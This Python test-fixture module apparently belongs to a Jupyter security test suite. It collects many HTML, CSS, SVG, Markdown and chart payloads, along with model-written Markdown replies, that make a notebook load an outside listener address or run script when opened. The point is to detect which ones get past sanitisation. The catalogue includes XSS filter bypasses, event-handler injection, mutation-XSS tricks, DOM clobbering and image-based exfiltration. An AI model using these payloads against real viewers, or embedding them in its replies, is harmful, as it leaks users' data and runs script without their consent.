"""Outputs and replies that load something from elsewhere, or run a script that does, when a notebook is opened.

Each asks for an address of its own, in which URL stands for the beginning; so a listener knows which of them got out.
"""

from collections.abc import Mapping
from typing import Any

RUN = "new Image().src='URL'"
DOT = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"

HTML = {
    "img": '<img src="URL">',
    "img_case": "<IMG\tSRC=URL>",
    "img_slash": "<img/src=URL/alt=x>",
    "img_entity": '<img src="&#104;ttp&colon;//HOST">',
    "img_control": '<img src="\x01 ht\ntp://HOST">',
    "img_long": f'<img alt="{"x" * 50_000}" src="URL">',
    "srcset": f'<img srcset="URL 1x" src="{DOT}">',
    "picture": f'<picture><source srcset="URL"><img src="{DOT}"></picture>',
    "video": '<video src="URL" autoplay></video>',
    "poster": '<video poster="URL"></video>',
    "audio": '<audio src="URL" preload=auto autoplay></audio>',
    "source": '<video preload=auto><source src="URL"></video>',
    "embed": '<embed src="URL">',
    "object": '<object data="URL"></object>',
    "iframe": '<iframe src="URL"></iframe>',
    "srcdoc": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "meta": "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=URL'>\"></iframe>",
    "base": "<iframe srcdoc=\"<base href='URL/'><img src=x>\"></iframe>",
    "form": "<iframe srcdoc=\"<form action='URL'></form><script>document.forms[0].submit()</script>\"></iframe>",
    "frame_data": f'<iframe src="data:text/html,<script>{RUN}</script>"></iframe>',
    "frame_script": "<iframe src=\"java\nscript:void(parent.x9=new Image(),parent.x9.src='URL')\"></iframe>",
    "object_data": '<object data="data:text/html,<img src=URL>"></object>',
    "link_style": "<link rel=stylesheet href=URL>",
    "link_prefetch": "<link rel=prefetch href=URL>",
    "link_preload": "<link rel=preload as=image href=URL>",
    "input": "<input type=image src=URL>",
    "background": "<table background=URL><tr><td>x</td></tr></table>",
    "svg_image": "<svg><image href=URL /></svg>",
    "svg_xlink": "<svg><image xlink:href=URL /></svg>",
    "svg_foreign": "<svg><foreignObject><img src=URL></foreignObject></svg>",
    "svg_set": '<svg><image href="data:,"><set attributeName=href to=URL /></image></svg>',
    "svg_animate": '<svg><image href="data:,"><animate attributeName=href values=URL begin=0s dur=9s /></image></svg>',
    "svg_feimage": "<svg><filter id=f9><feImage href=URL /></filter><rect filter=url(#f9) width=9 height=9 /></svg>",
    "svg_style": '<svg><style>.s9{background:url("URL")}</style></svg><p class=s9>x</p>',
    "svg_onload": f'<svg onload="{RUN}"></svg>',
    "math_text": "<math><mtext><img src=URL></mtext></math>",
    "math_annotation": '<math><annotation-xml encoding="text/html"><img src=URL></annotation-xml></math>',
    "style_url": "<style>.u9{background:url(URL)}</style><p class=u9>x</p>",
    "style_import": '<style>@import "URL";</style>',
    "style_font": "<style>@font-face{font-family:f9;src:url(URL)}.f9{font-family:f9}</style><p class=f9>text</p>",
    "style_before": "<style>.b9::before{content:url(URL)}</style><p class=b9>x</p>",
    "style_table": "<style>#T_9 td{background:url(URL)}</style><table id=T_9><tr><td>x</td></tr></table>",
    "style_nested": "<style>#T_8{td{background:url(URL)}}</style><table id=T_8><tr><td>x</td></tr></table>",
    "style_media": "<style>@media all{.m9{background:url(URL)}}</style><p class=m9>x</p>",
    "style_property": "<style>.p9{--u:url(URL);background:var(--u)}</style><p class=p9>x</p>",
    "attr_url": '<p style="background:url(URL)">x</p>',
    "attr_escape": r'<p style="background:\75\72\6c(URL)">x</p>',
    "attr_comment": '<p style="color:red;/*;*/background:url(URL)">x</p>',
    "attr_set": "<p style='background:image-set(\"URL\" 1x)'>x</p>",
    "attr_webkit": '<p style="background:-webkit-image-set(url(URL) 1x)">x</p>',
    "attr_property": '<p style="--u:url(URL);background:var(--u)">x</p>',
    "attr_list": '<ul style="list-style:url(URL)"><li>x</li></ul>',
    "attr_border": '<p style="border:9px solid;border-image:url(URL) 1">x</p>',
    "attr_mask": '<p style="mask-image:url(URL)">x</p>',
    "attr_shape": '<p style="float:left;shape-outside:url(URL)">x</p>',
    "attr_fade": f'<p style="background:-webkit-cross-fade(url(URL),url({DOT}),50%)">x</p>',
    "script": f"<script>{RUN}</script>",
    "onerror": f'<img src="data:," onerror="{RUN}">',
    "ontoggle": f'<details open ontoggle="{RUN}">x</details>',
    "onfocus": f'<input autofocus onfocus="{RUN}">',
    "onanimation": f'<style>@keyframes k9{{}}</style><b style="animation:k9 1ms" onanimationend="{RUN}">x</b>',
    "onbegin": f'<svg><animate attributeName=x dur=1s onbegin="{RUN}" /></svg>',
    "element": '<x-y9 style="background:url(URL);display:block">x</x-y9>',
    "template": "<div><template shadowrootmode=open><img src=URL></template></div>",
    "noscript": '<noscript><p title="</noscript><img src=URL>"></noscript>',
    "textarea": '<textarea><p title="</textarea><img src=URL>"></textarea>',
    "xmp": '<xmp><p title="</xmp><img src=URL>"></xmp>',
    "comment": "<!--><img src=URL>-->",
    "comment_bang": "<!--x--!><img src=URL>-->",
    "doctype": "<!DOCTYPE x [<!ENTITY y '><img src=URL>",
    "cdata": "<![CDATA[><img src=URL>]]>",
    "table_moved": "<table><img src=URL><tr><td>x</table>",
    "form_nested": "<form><div></form><form><img src=URL></form></div>",
    "attribute_end": """<a title='x"><img src=URL>"' href="'"><img src=URL>""",
}

VEGA = {"$schema": "https://vega.github.io/schema/vega-lite/v5.json"}
FIELD = {"x": {"field": "a", "type": "nominal"}}
OTHERS: Mapping[str, tuple[dict[str, Any], dict[str, Any]]] = {
    "html_lines": ({"text/html": ["<img ", "src=URL>"]}, {}),
    "html_isolated": ({"text/html": f"<script>{RUN}</script>"}, {"text/html": {"isolated": True}, "isolated": True}),
    "html_and_script": ({"text/html": "x", "application/javascript": RUN}, {}),
    "script_mime": ({"application/javascript": RUN}, {}),
    "markdown_picture": ({"text/markdown": "![x](URL)"}, {}),
    "markdown_reference": ({"text/markdown": "![x][1]\n\n[1]: URL"}, {}),
    "markdown_html": ({"text/markdown": "<img src=URL>"}, {}),
    "markdown_script": ({"text/markdown": f'<img src="data:," onerror="{RUN}">'}, {}),
    "vega_url": (
        {"application/vnd.vegalite.v5+json": {**VEGA, "data": {"url": "URL"}, "mark": "bar", "encoding": FIELD}},
        {},
    ),
    "vega_image": (
        {
            "application/vnd.vegalite.v5+json": {
                **VEGA,
                "data": {"values": [{"a": 1}]},
                "mark": {"type": "image", "url": "URL", "width": 9, "height": 9},
                "encoding": FIELD,
            }
        },
        {},
    ),
    "vega_computed": (
        {
            "application/vnd.vegalite.v5+json": {
                **VEGA,
                "data": {"values": [{"a": "URL"}]},
                "transform": [{"calculate": "datum.a", "as": "b"}],
                "mark": {"type": "image", "width": 9, "height": 9},
                "encoding": {**FIELD, "url": {"field": "b"}},
            }
        },
        {},
    ),
}

HELD = {
    "svg_mime": ({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><image href='URL'/></svg>"}, {}),
    "svg_mime_script": ({"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>'}, {}),
    "latex_style": ({"text/latex": r"$\style{background:url(URL)}{x}$"}, {}),
    "png_text": ({"image/png": 'AA=="><img src="URL">'}, {}),
    "jpeg_text": ({"image/jpeg": 'AA=="><img src="URL">'}, {}),
    "png_size": ({"image/png": "AA=="}, {"image/png": {"width": '1" onerror="new Image().src=`URL`'}}),
    "png_alt": ({"image/png": "AA=="}, {"image/png": {"alt": 'x" onerror="new Image().src=`URL`'}}),
    "markdown_style": ({"text/markdown": r"$\style{background:url(URL)}{x}$"}, {}),
    "plotly": ({"application/vnd.plotly.v1+json": {"data": [], "layout": {"images": [{"source": "URL"}]}}}, {}),
    "plotly_map": ({"application/vnd.plotly.v1+json": {"data": [{"type": "scattergeo"}], "layout": {}}}, {}),
    "geojson": (
        {"application/geo+json": {"type": "Point", "coordinates": [1, 2]}},
        {"application/geo+json": {"url": "URL"}},
    ),
    "widget": ({"application/vnd.jupyter.widget-view+json": {"model_id": "URL", "version_major": 2}}, {}),
    "bokeh": ({"application/vnd.bokehjs_exec.v0+json": "", "application/vnd.bokehjs_load.v0+json": RUN}, {}),
    "pdf": ({"application/pdf": "URL"}, {}),
    "stdout": ({"application/vnd.jupyter.stdout": "<img src=URL>"}, {}),
    "mime_name": ({'text/html"><img src=URL>': "x", "TEXT/HTML": "<img src=URL>"}, {}),
    "link_preload_svg": ({"text/html": "<svg><use href='URL#x' /></svg>"}, {}),
    "clobbers": ({"text/html": "<a id=jupyter-config-data name=_JUPYTERLAB href=URL>x</a>"}, {}),
    "json": ({"application/json": {"<img src=URL>": "![x](URL)", "image": "URL"}}, {}),
    "plain": ({"text/plain": "\x1b]8;;URL\x1b\\x\x1b]8;;\x1b\\ <img src=URL> \x1b[31mURL"}, {}),
}
"""What asks for nothing in a Jupyter as it is installed for the tests, cleaned or not; another one may have more."""


REPLIES = {
    "reply_picture": "![x](URL)",
    "reply_reference": "![x][1]\n\n[1]: URL",
    "reply_html": "<img src=URL>",
    "reply_block": "<div>\n<img src=URL>\n</div>",
    "reply_handler": f'<img src="data:," onerror="{RUN}">',
    "reply_table": "| a |\n|---|\n| ![x](URL) |",
    "reply_link": "[![x](URL)](URL)",
    "reply_code": "- a\n`\n- b ![x](URL) `",
    "reply_formula": "$`$ ![x](URL) `x`",
    "reply_begin": "```\n\\begin{a}\n```\n\\end{a}\n```\n![x](URL)\n```\n![x](URL)\n",
    "reply_svg": "<svg><image href=URL /></svg>",
}
"""Markdown that a model wrote."""

HELD_REPLIES = {
    "reply_style": r"$\style{background:url(URL)}{x}$",
    "reply_href": r"$\href{javascript:fetch('URL')}{x}$ and <javascript:fetch('URL')>",
    "reply_attachment": "![x](attachment:URL)",
    "reply_mermaid": '```mermaid\ngraph TD\nA@{ img: "URL" }\n```',
}

HELD_BY_LAB = frozenset({"frame_script", "onfocus", "svg_onload", "reply_formula", "reply_handler", "reply_svg"})
HELD_BY_NBCONVERT = frozenset(
    {"noscript", "textarea", "xmp", "svg_set", "svg_animate", "onbegin", "vega_url", "vega_image", "vega_computed"}
)
"""What asks for nothing there, cleaned or not, but does so elsewhere."""

PRINTED = ("\\begin{a}\n````", "\\end{a}\n```\n![x](URL)\n<img src=URL>\n")
"""What two blocks of a failed attempt print: a formula hides the fences between them from JupyterLab."""


def outputs(elsewhere: str) -> dict[str, dict[str, Any]]:
    """Return an output for each way to get out, and those that are held."""
    bundles = {**{name: ({"text/html": text}, {}) for name, text in HTML.items()}, **OTHERS, **HELD}
    return {
        name: filled({"output_type": "display_data", "data": data, "metadata": metadata}, f"{elsewhere}/{name}")
        for name, (data, metadata) in bundles.items()
    }


def filled(value: Any, url: str) -> Any:
    """Return a value with an address in the place of URL."""
    match value:
        case str():
            return value.replace("URL", url).replace("HOST", url.removeprefix("http://"))
        case dict():
            return {filled(key, url): filled(item, url) for key, item in value.items()}
        case list():
            return [filled(item, url) for item in value]
    return value
